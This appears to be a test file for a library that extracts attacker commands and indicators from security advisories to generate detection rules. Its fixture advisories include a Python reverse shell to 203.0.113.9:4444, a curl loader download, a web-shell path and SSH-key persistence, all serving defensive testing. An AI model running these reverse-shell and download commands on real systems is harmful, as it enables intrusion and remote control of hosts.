import { type AdvisoryDocument, findEvidence, type GeneratedRule, generate } from '@tripline/advisory';
import { markdownAdvisory } from './support/documents.js';

const commandsOf = (doc: AdvisoryDocument): readonly string[] =>
  findEvidence(doc)
    .behaviours.filter(({ kind }) => kind === 'command')
    .map(({ value }) => value);
const values = (rules: readonly GeneratedRule[]): string => rules.map(({ yaml }) => yaml).join('\n');

const GOOD_HASH = 'b19cb1e2c25d1a8f4a8c0b52b4c1f3de';
const BAD_HASH = '0a7be5f9d84c06f1b8b7c2a9e35d6417';

/** A guide, written for this test, for administrators who must find out whether their gateway was compromised. */
const GUIDE = `# Slate Gateway CVE-2031-4242 forensics notes

## Taking an image

\`\`\`
dd if=/dev/sd0 | ssh analyst@198.51.100.4 dd of=/evidence/slate-sd0.img
\`\`\`

## Traces

Search the web root for new files:

\`\`\`
root@slate# find /slateroot/pages/ -newermt "2031-02-01" -name helper.php
/slateroot/pages/helper.php
root@slate# tail -1 /var/log/httpaccess.log
203.0.113.9 - - "POST /cgi/slate/unpack.cgi HTTP/1.1" 200
\`\`\`

These are the only valid scripts of the folder:

| Script | MD5 |
|---|---|
| welcome.php | ${GOOD_HASH} |

The backdoor that was seen on two gateways hides under this hash:

| Script | MD5 |
|---|---|
| helper.php | ${BAD_HASH} |

The payload decodes to a reverse shell:

\`\`\`
root@slate# base64 -d payload.b64 -o payload.txt
/usr/bin/python3 -c 'import socket,pty;s=socket.socket();s.connect(("203.0.113.9",4444));pty.spawn("/bin/slatesh")'
\`\`\`

## Default processes

\`\`\`
USER   PID %CPU %MEM COMMAND
root    77  0.0  0.1 /usr/bin/php /slate/agent-daemon.php --watch /etc/slate.conf
\`\`\`
`;

describe('a guide for responders', () => {
  it('gives no rule on what its reader types, nor on what a listing of the untouched system shows', async () => {
    const doc = await markdownAdvisory(GUIDE);
    expect(commandsOf(doc).join('\n')).not.toMatch(/dd if|find |tail|base64 -d|agent-daemon/);
    expect(values(generate(doc).rules)).not.toMatch(/evidence|newermt|payload\.b64|agent-daemon/);
  });

  it('keeps what the actor left in it: the request, the payload', async () => {
    const doc = await markdownAdvisory(GUIDE);
    expect(commandsOf(doc).some((line) => line.startsWith('/usr/bin/python3 -c'))).toBe(true);
    const rules = values(generate(doc).rules);
    expect(rules).toContain('/cgi/slate/unpack.cgi');
    expect(rules).not.toContain('/slateroot/');
  });

  it('takes no hash of an untouched system for an indicator', async () => {
    const hashes = findEvidence(await markdownAdvisory(GUIDE))
      .indicators.filter(({ type }) => type === 'md5')
      .map(({ value }) => value);
    expect(hashes).toEqual([BAD_HASH]);
  });
});

describe('a report on an intrusion', () => {
  it('leaves out the code that its lead-in gives the reader to check with, and keeps the actor’s', async () => {
    const doc = await markdownAdvisory(`# Slate Wren in the build farm

The attackers ran the following on each runner:

\`\`\`
curl -o /var/tmp/.wren/loader http://203.0.113.9/wren
\`\`\`

You can check whether a runner is affected with this one-liner:

\`\`\`
curl --head http://127.0.0.1:8181/wren-status
\`\`\`
`);
    expect(commandsOf(doc)).toEqual(['curl -o /var/tmp/.wren/loader http://203.0.113.9/wren']);
  });

  it('keeps hashes of good programs that the actor brought along', async () => {
    const doc = await markdownAdvisory(`# Slate Wren loads its library

Hashes of the legitimate executable abused for side-loading:

- ${GOOD_HASH}
`);
    expect(findEvidence(doc).indicators.map(({ value }) => value)).toEqual([GOOD_HASH]);
  });
});

describe('advice within a report', () => {
  it.each([
    'Use `netstat -ano | findstr 4444` to look for such connections.',
    'To check for it, run `reg query HKLM\\Software\\Wren /v Key` on each host.',
  ])('is no command of the actor: %s', async (sentence) => {
    expect(commandsOf(await markdownAdvisory(`# Slate Wren on file servers\n\n${sentence}\n`))).toEqual([]);
  });

  it.each(['It uses `tasklist /svc` to check for analysts.', 'The malware runs `tasklist /svc` to list services.'])(
    'does not hide what malware does for a similar end: %s',
    async (sentence) => {
      expect(commandsOf(await markdownAdvisory(`# Slate Wren on file servers\n\n${sentence}\n`))).toEqual([
        'tasklist /svc',
      ]);
    },
  );

  it('what an actor did is kept from among instructions to the reader', async () => {
    const doc = await markdownAdvisory(`# Slate VPN flaw CVE-2031-1111 on Linux appliances

## How to know whether you are affected

If the output names /opt/slate/web/check.cgi, call us. Attackers were seen to append their key to /root/.ssh/authorized_keys.

## SHA256 of fixed packages

| File | SHA256 |
|---|---|
| slate-9.pkg | ${GOOD_HASH}${GOOD_HASH} |
`);
    const rules = values(generate(doc).rules);
    expect(rules).toContain("name: '/root/.ssh/authorized_keys'");
    expect(rules).not.toMatch(/check\.cgi|SHA256=/);
  });

  it('what the authors removed is no deletion by the actor', async () => {
    const doc = await markdownAdvisory(
      '# Slate Wren on Linux\n\nWe removed the infection with `rm -rf /tmp/.wren7` at noon.\n',
    );
    expect(generate(doc).rules.filter(({ platform }) => platform === 'endpoint-auditd')).toEqual([]);
  });
});

describe('words before a path', () => {
  it('that are also names of tools do not begin a command', async () => {
    const doc = await markdownAdvisory(
      '# Slate Wren on Linux\n\nThe actors placed a web shell at /opt/slate/web/lib.cgi later.\n',
    );
    expect(commandsOf(doc)).toEqual([]);
  });
});

describe('a report on a sample', () => {
  const REPORT = `# Analysis of the Slate Finch loader

## Unpacking

\`\`\`
upx -d finch.exe -o finch_unpacked.exe
python3 oledump.py -s 8 -v invoice.doc
rundll32.exe C:\\ProgramData\\Finch\\fnch.dll,Start
\`\`\`

## About our product

Quill Endpoint installs the service QuillSvc and blocks powershell.exe -enc.
`;

  it('gives no rule on the analysts’ tools, nor on the vendor’s product', async () => {
    const doc = await markdownAdvisory(REPORT);
    expect(commandsOf(doc)).toEqual(['rundll32.exe C:\\ProgramData\\Finch\\fnch.dll,Start']);
    expect(values(generate(doc).rules)).not.toMatch(/QuillSvc|oledump|unpacked/);
  });
});
